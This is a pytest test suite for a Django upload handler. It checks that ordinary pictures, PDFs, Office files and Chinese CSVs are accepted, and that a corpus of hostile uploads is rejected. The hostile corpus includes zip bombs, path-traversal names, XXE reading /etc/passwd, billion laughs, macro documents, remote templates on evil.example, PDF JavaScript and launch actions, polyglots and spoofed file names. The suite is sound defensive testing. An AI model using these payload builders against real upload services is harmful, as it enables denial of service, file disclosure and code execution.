"""Files that come in: what people send is taken, and nothing of the hostile corpus is."""

import hashlib
import io
import os
import resource
import struct
import time
import zipfile
import zlib
from datetime import timedelta
from pathlib import Path

import pytest
import xlsxwriter
import xlwt
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command
from django.http import Http404
from django.utils import timezone
from PIL import Image

from records import files
from records.files import ATTACHMENTS, LISTS, PICTURES, Rejected, attachment, clean_name, open_file, store_file
from records.models import File
from tests.partnerships.factories import UserFactory

RLO = "\u202e"
MARK = b"<script>alert('in')</script>"


# --- good ones -------------------------------------------------------------------------------------------------------


def picture(kind="PNG", size=(64, 48), **options):
    out = io.BytesIO()
    Image.effect_noise(size, 30).convert("RGB").save(out, kind, **options)
    return out.getvalue()


def office(extra=(), part="word/document.xml", types="<Types/>", compression=zipfile.ZIP_DEFLATED):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression) as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr(part, "<document/>")
        for name, content in extra:
            archive.writestr(name, content)
    return out.getvalue()


def docx(*extra, **options):
    return office(extra, **options)


def xlsx(*extra, **options):
    return office(extra, part="xl/workbook.xml", **options)


def real_xlsx():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        book.add_worksheet("企业").write_row(0, 0, ["序号", "企业全称"])
    return out.getvalue()


def xls():
    out, book = io.BytesIO(), xlwt.Workbook()
    book.add_sheet("企业").write(0, 0, "序号")
    book.save(out)
    return out.getvalue()


def pdf(body=b"", tail=b""):
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + body + b" >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n" + tail


def csv(encoding="utf-8-sig"):
    return "序号,企业全称\r\n1,恒力轴承（杭州）有限公司\r\n".encode(encoding)


GOOD = {
    "photo.jpg": (picture("JPEG"), ATTACHMENTS),
    "PHOTO.JPEG": (picture("JPEG"), PICTURES),
    "screen.png": (picture("PNG"), PICTURES),
    "moments.webp": (picture("WEBP"), PICTURES),
    "grey.png": (picture("PNG", (9, 9)), ATTACHMENTS),
    "协议.pdf": (pdf(), ATTACHMENTS),
    "议程.docx": (docx(), ATTACHMENTS),
    "equation.docx": (docx(("word/embeddings/oleObject1.bin", b"Equation Native")), ATTACHMENTS),
    "links.docx": (
        docx(("word/_rels/document.xml.rels", '<R Type="http://x/relationships/hyperlink" TargetMode="External"/>')),
        ATTACHMENTS,
    ),
    "台账.xlsx": (real_xlsx(), LISTS),
    "linked.xlsx": (
        xlsx(("xl/externalLinks/_rels/a.xml.rels", '<R Type="http://x/relationships/externalLinkPath" '
              'Target="a.xlsx" TargetMode="External"/>')),
        LISTS,
    ),
    "台账.xls": (xls(), LISTS),
    "utf8.csv": (csv(), LISTS),
    "gbk.csv": (csv("gbk"), LISTS),
    "dos.csv": (csv() + b"\x1a", LISTS),
}  # fmt: skip


# --- hostile ones ----------------------------------------------------------------------------------------------------


def chunk(kind, body):
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def flat_png(width, height, rows=b""):
    """A PNG of a few kB that claims any size."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(rows or b"\x00" * 1000)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", data) + chunk(b"IEND", b"")


def huge_jpeg(width, height):
    """A small JPEG whose header claims any size."""
    data = bytearray(picture("JPEG"))
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", height, width)
    return bytes(data)


def bomb(size=400 << 20, part="word/media/a.xml"):
    return docx((part, b"0" * (size >> 3)), *((f"word/media/{n}.xml", b"0" * (size >> 3)) for n in range(7)))


def lying_bomb():
    """The directory says 10 bytes, the stream holds 20 MB."""
    data = bytearray(docx(("word/media/a.bin", b"0" * (20 << 20))))
    name = b"word/media/a.bin"
    local, central = data.index(name) - 30, data.rindex(name) - 46
    data[local + 22 : local + 26] = data[central + 24 : central + 28] = struct.pack("<I", 10)
    return bytes(data)


def nested_bomb():
    inner = office([(f"{n}.xml", b"0" * (8 << 20)) for n in range(4)])
    return docx(*((f"word/media/{n}.zip", inner) for n in range(20)), ("word/media/big.bin", b"0" * (32 << 20)))


def many_entries():
    return docx(*((f"word/media/{n}", b"") for n in range(files.MAX_ENTRIES)))


def overlapping():
    """Every entry of the directory points at the same bytes."""
    data = bytearray(docx(("word/media/a.bin", b"0" * 100_000), ("word/media/b.bin", b"0" * 100_000)))
    first, second = (data.rindex(name) - 46 for name in (b"word/media/a.bin", b"word/media/b.bin"))
    data[second + 42 : second + 46] = data[first + 42 : first + 46]
    return bytes(data)


def locked():
    data = bytearray(docx())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature)
        data[at + offset] |= 1
    return bytes(data)


def twins():
    out = io.BytesIO(docx())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("WORD/document.xml", "<other/>")
    return out.getvalue()


def cut(data):
    return data[: len(data) // 2]


def ole(*names):
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600 + b"".join(name.encode("utf-16-le") for name in names)


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
HTML = b"<!doctype html><html><script>alert(1)</script></html>"
XXE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><x>&b;</x>'
MACRO_TYPE = '<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>'
EXTERNAL = '<R Type="http://x/relationships/{}" Target="http://evil.example/t.dotm" TargetMode="External"/>'
TURNED = '<R TargetMode="External" Type="http://x/relationships/{}" Target="http://evil.example/t.dotm"/>'
ELF, EXE, SWF = b"\x7fELF\x02\x01\x01" + b"\x00" * 90, b"MZ\x90\x00" + b"\x00" * 90, b"FWS\x08" + b"\x00" * 90
BOM = b"\xef\xbb\xbf"

HOSTILE = {
    # another kind under the name of a picture
    "svg as png": ("a.png", SVG), "html as png": ("a.png", HTML), "html as jpg": ("a.jpg", HTML),
    "svg as webp": ("a.webp", SVG), "svg": ("a.svg", SVG), "html": ("a.html", HTML), "gif as png": ("a.png", picture("GIF")),
    "jpeg as png": ("a.png", picture("JPEG")), "png as jpg": ("a.jpg", picture("PNG")), "bmp as png": ("a.png", picture("BMP")),
    "tiff as jpg": ("a.jpg", picture("TIFF")), "pdf as png": ("a.png", pdf()), "zip as jpg": ("a.jpg", docx()),
    "elf as png": ("a.png", ELF), "exe as jpg": ("a.jpg", EXE), "flash as webp": ("a.webp", SWF),
    "gif that is a script": ("a.png", b"GIF89a/*" + MARK + b"*/=1;"), "script behind a jpeg's head": ("a.jpg", b"\xff\xd8\xff\xe0" + MARK),
    "png head alone": ("a.png", b"\x89PNG\r\n\x1a\n"), "half a png": ("a.png", cut(picture())), "half a jpeg": ("a.jpg", cut(picture("JPEG", (600, 600)))),
    "half a webp": ("a.webp", cut(picture("WEBP"))), "png of nonsense": ("a.png", flat_png(50, 50, b"\xff" * 99)),
    "webp that is a film": ("a.webp", b"RIFF\x20\x00\x00\x00AVI LIST" + b"\x00" * 40),
    "postscript as jpg": ("a.jpg", b"%!PS-Adobe-3.0\n(%pipe%id) (w) file"), "mvg as png": ("a.png", b"push graphic-context\nfill 'url(https://x)'"),
    "png without size": ("a.png", flat_png(0, 0)),
    # too large to decode
    "30,000 squared png": ("a.png", flat_png(30_000, 30_000)), "narrow endless png": ("a.png", flat_png(1, 900_000_000)),
    "60,000 squared jpeg": ("a.jpg", huge_jpeg(60_000, 60_000)), "png of 16 million": ("a.png", flat_png(4_000, 4_001)),
    # archives
    "bomb 1:1000": ("a.docx", bomb), "lying bomb": ("a.docx", lying_bomb), "bombs in a bomb": ("a.docx", nested_bomb),
    "too many entries": ("a.docx", many_entries), "overlapping entries": ("a.docx", overlapping),
    "climbing name": ("a.docx", docx(("../../etc/cron.d/x", "x"))), "climbing with backslashes": ("a.xlsx", xlsx(("..\\..\\x.xml", "x"))),
    "absolute name": ("a.docx", docx(("/etc/passwd", "x"))), "drive name": ("a.docx", docx(("C:/Windows/x.dll", "x"))),
    "locked entries": ("a.docx", locked), "twins by case": ("a.docx", twins),
    "plain zip as docx": ("a.docx", office(part="readme.txt")), "docx as xlsx": ("a.xlsx", docx()), "xlsx as docx": ("a.docx", xlsx()),
    "jar as docx": ("a.docx", office([("META-INF/MANIFEST.MF", "Main-Class: X")], part="X.class")),
    "half a docx": ("a.docx", cut(docx(("word/a.xml", os.urandom(9_000))))), "picture before a docx": ("a.docx", picture() + docx()),
    "exe before a docx": ("a.docx", EXE + docx()), "ole as docx": ("a.docx", ole("WordDocument")), "html as xlsx": ("a.xlsx", HTML),
    "rar as docx": ("a.docx", b"Rar!\x1a\x07\x00" + b"\x00" * 90), "empty archive": ("a.docx", b"PK\x05\x06" + b"\x00" * 18),
    # what runs
    "macro docx": ("a.docx", docx(("word/vbaProject.bin", b"x"))), "macro docx by its type": ("a.docx", docx(types=MACRO_TYPE)),
    "macro xlsx": ("a.xlsx", xlsx(("xl/VBAPROJECT.BIN", b"x"))), "excel 4 macros": ("a.xlsx", xlsx(("xl/macrosheets/sheet1.xml", "<x/>"))),
    "activex": ("a.docx", docx(("word/activeX/activeX1.xml", "<x/>"))), "docm": ("a.docm", docx()), "xlsm": ("a.xlsm", xlsx()),
    "packed program": ("a.docx", docx(("word/embeddings/oleObject1.bin", b"\x01" + "Ole10Native".encode("utf-16-le")))),
    "template from elsewhere": ("a.docx", docx(("word/_rels/settings.xml.rels", EXTERNAL.format("attachedTemplate")))),
    "object from elsewhere": ("a.docx", docx(("word/_rels/document.xml.rels", TURNED.format("oleObject")))),
    # entities
    "xxe xlsx": ("a.xlsx", xlsx(("xl/worksheets/sheet1.xml", XXE))), "xxe in the types": ("a.docx", docx(types=XXE)),
    "xxe in utf-16": ("a.xlsx", xlsx(("xl/sharedStrings.xml", XXE.encode("utf-16")))),
    "billion laughs": ("a.docx", docx(("word/styles.xml", LAUGHS))), "xxe far down": ("a.xlsx", xlsx(("xl/a.xml", " " * 3_000_000 + XXE))),
    # pdf
    "pdf with script": ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
    "pdf with escaped script": ("a.pdf", pdf(b"/OpenAction << /S /J#61vaScript >>")), "pdf that launches": ("a.pdf", pdf(b"/S /Launch /F (cmd.exe)")),
    "pdf with a file inside": ("a.pdf", pdf(b"/Names << /EmbeddedFiles 2 0 R >>")), "pdf and zip at once": ("a.pdf", pdf(tail=docx())),
    "pdf and zip, well ended": ("a.pdf", b"%PDF-1.4\n" + docx() + b"\n%%EOF"), "html before a pdf": ("a.pdf", HTML + pdf()),
    "html behind a pdf": ("a.pdf", pdf(tail=HTML)), "pdf head alone": ("a.pdf", b"%PDF-1.7\n"), "text as pdf": ("a.pdf", b"hello %%EOF"),
    # lists
    "word as xls": ("a.xls", ole("WordDocument")), "macro xls": ("a.xls", ole("Workbook", "_VBA_PROJECT_CUR")), "html as xls": ("a.xls", HTML),
    "html as csv": ("a.csv", HTML), "html as csv behind a mark": ("a.csv", BOM + b"\n " + HTML), "svg as csv": ("a.csv", SVG),
    "exe as csv": ("a.csv", EXE), "docx as csv": ("a.csv", docx()), "rtf as csv": ("a.csv", b"{\\rtf1 x}"), "shell as csv": ("a.csv", b"#!/bin/sh\nid"),
    "pdf as csv": ("a.csv", pdf()), "mhtml as csv": ("a.csv", b"MIME-Version: 1.0\n\n" + HTML), "escape codes as csv": ("a.csv", b"a,\x1b[2J\n"),
    "broken characters as csv": ("a.csv", b"a,\xff\xff\xff\n"),
    # names
    "exe behind a pdf's name": ("a.pdf.exe", pdf()), "no ending": ("pdf2", pdf()), "right to left name": (f"a{RLO}fdp.exe", pdf()),
    "cut by a null": ("a.exe\x00.txt", pdf()), "empty": ("a.png", b""), "php": ("a.php", picture()), "double": ("a.png/../b.sh", picture()),
}  # fmt: skip


def upload(name, content):
    given = SimpleUploadedFile("x", content)
    given._name = name  # a client sends any name; Django's own cleaning is not what is tried here
    return given


@pytest.fixture
def officer(db):
    return UserFactory()


def stored(row):
    with open_file(row) as file:
        return file.read()


def bytes_on_disk(settings):
    return [path for path in Path(settings.FILES_DIR).rglob("*") if path.is_file()]


@pytest.fixture
def folder(settings, tmp_path):
    settings.FILES_DIR = tmp_path / "files"
    return settings.FILES_DIR


def test_the_corpus_is_large_enough():
    assert len(HOSTILE) >= 60


@pytest.mark.parametrize("name", GOOD)
def test_what_people_send_is_taken(officer, folder, name):
    content, kinds = GOOD[name]
    row = store_file(upload(name, content), kinds=kinds, by=officer)
    kept = stored(row)
    assert (row.name, row.size, row.sha256) == (name, len(kept), hashlib.sha256(kept).hexdigest())
    assert kept == content or row.is_picture
    assert row.path == f"{row.key.hex[:2]}/{row.key}"
    assert name not in row.path


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_hostile_is_taken(officer, folder, settings, name):
    filename, content = HOSTILE[name]
    content = content() if callable(content) else content
    for kinds in (ATTACHMENTS, LISTS):
        before, started = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.perf_counter()
        with pytest.raises(Rejected) as refused:
            store_file(upload(filename, content), kinds=kinds, by=officer)
        assert time.perf_counter() - started < 2
        assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 150 * 1024
        assert len(refused.value.messages) == 1
    assert not File.objects.exists()
    assert bytes_on_disk(settings) == []


def test_a_picture_keeps_its_pixels_and_nothing_else(officer, folder):
    exif = Image.Exif()
    exif[0x0112], exif[0x010E] = 6, MARK.decode()  # turned to the right; a description
    exif.get_ifd(0x8825)[2] = (30.0, 15.0, 0.0)  # where it was taken
    profile = b"\x00" * 128 + MARK
    data = picture("JPEG", (64, 48), exif=exif, comment=MARK, icc_profile=profile) + MARK
    row = store_file(upload("a.jpg", data), kinds=PICTURES, by=officer)
    assert MARK not in stored(row)
    with Image.open(io.BytesIO(stored(row))) as kept:
        assert kept.size == (48, 64)
        assert not kept.getexif()
        assert not {"icc_profile", "comment", "exif"} & set(kept.info)


@pytest.mark.parametrize("kind", ["PNG", "WEBP"])
def test_what_hides_in_other_pictures_goes_too(officer, folder, kind):
    data = picture(kind, icc_profile=b"\x00" * 128 + MARK)
    if kind == "PNG":
        data = data[:-12] + chunk(b"tEXt", b"Comment\x00" + MARK) + data[-12:]
    row = store_file(upload(f"a.{kind.lower()}", data + MARK), kinds=PICTURES, by=officer)
    assert MARK not in stored(row)


def test_a_large_photo_is_kept_smaller(officer, folder):
    row = store_file(upload("a.jpg", picture("JPEG", (4_000, 3_000), quality=40)), kinds=PICTURES, by=officer)
    with Image.open(io.BytesIO(stored(row))) as kept:
        assert kept.size == (files.LONGEST_EDGE, 1_920)


def test_see_through_pictures_stay_so(officer, folder):
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (255, 0, 0, 0)).save(out, "PNG")
    row = store_file(upload("a.png", out.getvalue()), kinds=PICTURES, by=officer)
    with Image.open(io.BytesIO(stored(row))) as kept:
        assert kept.getpixel((0, 0))[3] == 0


# --- names -----------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("given", "kept"),
    [("合作协议.pdf", "合作协议.pdf"), ("../../etc/passwd.pdf", "passwd.pdf"), ("C:\\用户\\照片.jpg", "照片.jpg"),
     (f"照片{RLO}gpj.exe", "照片gpj.exe"), ("a\x00b\r\n.png", "ab.png"), (".png", "file.png"), ("", "file"),
     (".htaccess.png", "htaccess.png"), ('a<b>:"|?*.pdf', "a_b______.pdf"), ("𠮷·买买提.jpg", "𠮷·买买提.jpg"),
     ("a.pdf. ", "a.pdf"), ("e\u0301.pdf", "é.pdf"), (None, "file")],
)  # fmt: skip
def test_names_are_fit_to_be_shown_and_saved(given, kept):
    assert clean_name(given) == kept


@pytest.mark.parametrize("stem", ["恒" * 300, "𠮷" * 100, "a" * 400, "e\u0301" * 200])
def test_long_names_fit_every_file_system(officer, folder, stem):
    row = store_file(upload(stem + ".PDF", pdf()), kinds=ATTACHMENTS, by=officer)
    row.refresh_from_db()
    assert row.name.endswith(".PDF")
    assert len(row.name.encode()) <= 200
    assert "\ufffd" not in row.name


def test_what_goes_out_is_an_attachment_and_inert(officer, folder):
    row = store_file(upload('协议;"x.pdf', pdf()), kinds=ATTACHMENTS, by=officer)
    response = attachment(row)
    assert b"".join(response.streaming_content) == pdf()
    response.close()
    assert response["Content-Disposition"].startswith("attachment; filename*=utf-8''")
    assert response["Content-Type"] == "application/pdf"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]
    assert "no-store" in response["Cache-Control"]


def test_the_web_server_may_hand_out(officer, folder, settings):
    settings.FILES_ACCEL_PREFIX = "/internal/"
    row = store_file(upload("a.pdf", pdf()), kinds=ATTACHMENTS, by=officer)
    assert attachment(row)["X-Accel-Redirect"] == f"/internal/{row.path}"


def test_lost_bytes_are_not_found(officer, folder):
    row = store_file(upload("a.pdf", pdf()), kinds=ATTACHMENTS, by=officer)
    (folder / row.path).unlink()
    with pytest.raises(Http404):
        attachment(row)


# --- limits and leftovers --------------------------------------------------------------------------------------------


def test_one_file_and_one_day_have_limits(officer, folder, settings):
    settings.FILE_MAX_BYTES = 1_000
    with pytest.raises(Rejected):
        store_file(upload("a.pdf", pdf(b" " * 1_000)), kinds=ATTACHMENTS, by=officer)
    settings.FILE_MAX_BYTES, settings.FILE_QUOTA_DAY = 10_000, 250
    now = timezone.now()
    store_file(upload("a.pdf", pdf(b" " * 100)), kinds=ATTACHMENTS, by=officer, now=now)
    with pytest.raises(Rejected):
        store_file(upload("b.pdf", pdf(b" " * 100)), kinds=ATTACHMENTS, by=officer, now=now)
    store_file(upload("b.pdf", pdf(b" " * 100)), kinds=ATTACHMENTS, by=UserFactory(), now=now)
    store_file(upload("b.pdf", pdf(b" " * 100)), kinds=ATTACHMENTS, by=officer, now=now + timedelta(days=1, seconds=1))


def test_bytes_without_a_row_are_swept(officer, folder, capsys):
    kept = store_file(upload("a.pdf", pdf()), kinds=ATTACHMENTS, by=officer)
    orphan = store_file(upload("a.pdf", pdf()), kinds=ATTACHMENTS, by=officer)
    fresh = store_file(upload("a.pdf", pdf()), kinds=ATTACHMENTS, by=officer)
    File.objects.filter(pk__in=[orphan.pk, fresh.pk]).delete()
    half = folder / kept.path[:2] / "tmp1234"
    half.write_bytes(b"x")
    old = time.time() - 2 * 86_400
    for path in (folder / kept.path, folder / orphan.path, half):
        os.utime(path, (old, old))
    call_command("sweep_files")
    assert capsys.readouterr().out == "2 files removed.\n"
    assert (folder / kept.path).exists()
    assert (folder / fresh.path).exists()
    assert not (folder / orphan.path).exists()


def test_a_failing_disk_leaves_nothing_behind(officer, folder, monkeypatch):
    monkeypatch.setattr(files.os, "replace", lambda *paths: (_ for _ in ()).throw(OSError(28, "No space left")))
    with pytest.raises(OSError, match="No space left"):
        store_file(upload("a.pdf", pdf()), kinds=ATTACHMENTS, by=officer)
    assert not File.objects.exists()
    assert [path for path in folder.rglob("*") if path.is_file()] == []
